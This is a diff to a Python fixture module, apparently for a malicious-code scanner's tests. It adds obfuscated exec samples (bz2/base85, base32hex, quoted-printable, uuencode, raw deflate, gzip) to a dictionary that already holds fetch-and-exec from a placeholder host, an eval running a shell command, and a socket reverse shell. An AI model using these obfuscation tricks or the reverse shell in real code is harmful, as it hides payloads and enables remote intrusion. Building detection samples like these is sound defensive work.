@@ -1,9 +1,13 @@
 """Python beside a model, notebooks, configurations that name code, scripts, XML, and names that lie."""
 
 import base64
+import binascii
+import bz2
 import json
+import quopri
 import zlib
 
+from .deflate import gzip_member, zlib_stream
 from .opcodes import call, dumps
 from .registry import CLEAN, COMMAND, HOST, INCOMPLETE, MALICIOUS, SUSPICIOUS
 
@@ -25,6 +29,13 @@ ATTACKS = {
     "exec-base64": ("exec of base64", f"import base64\nexec(base64.b64decode('{ENCODED}'))\n"),
     "exec-zlib-reversed": ("exec of compressed base64 written backwards", f"_ = lambda t: __import__('zlib').decompress(__import__('base64').b64decode(t[::-1]))\nexec((_)(b'{PACKED[::-1]}'))\n"),
     "exec-xor": ("exec of text turned character by character", f"d = lambda s: ''.join(chr(ord(c) ^ 7) for c in s)\nexec(d({TURNED!r}))\n"),
+    "exec-bz2-base85": ("exec of a bzip2 stream in base85", f"import base64, bz2\nexec(bz2.decompress(base64.b85decode({base64.b85encode(bz2.compress(CALL.encode()))!r})))\n"),
+    "exec-base32-hex": ("exec of base32 with the digits of hexadecimals", f"import base64\nexec(base64.b32hexdecode({base64.b32hexencode(CALL.encode())!r}))\n"),
+    "exec-quoted": ("exec of quoted-printable text", f"import quopri\nexec(quopri.decodestring({quopri.encodestring(CALL.encode(), quotetabs=True)!r}))\n"),
+    "exec-uu": ("exec of a line of uuencode", f"import binascii\nexec(binascii.a2b_uu({binascii.b2a_uu(CALL.encode())!r}))\n"),
+    "exec-decompressor": ("exec of what a decompressor object gives", f"import bz2\nexec(bz2.BZ2Decompressor().decompress({bz2.compress(CALL.encode())!r}))\n"),
+    "exec-raw-deflate": ("exec of deflate without a header", f"import zlib\nexec(zlib.decompress({zlib_stream(CALL.encode())[2:-4]!r}, -15))\n"),
+    "exec-gzip-file": ("exec of what a gzip file in memory holds", f"import gzip, io\nexec(gzip.GzipFile(fileobj=io.BytesIO({gzip_member(CALL.encode())!r})).read())\n"),
     "exec-fetched": ("exec of what an address gives", f"import urllib.request\nexec(urllib.request.urlopen('http://{HOST}/x.py').read())\n"),
     "eval-text": ("eval of an expression that imports", f"eval(\"__import__('os').system('{COMMAND}')\")\n"),
     "reverse-shell": ("a shell on a socket", f"import os, pty, socket\ns = socket.create_connection(('{HOST}', 9))\nos.dup2(s.fileno(), 0)\npty.spawn('/bin/sh')\n"),
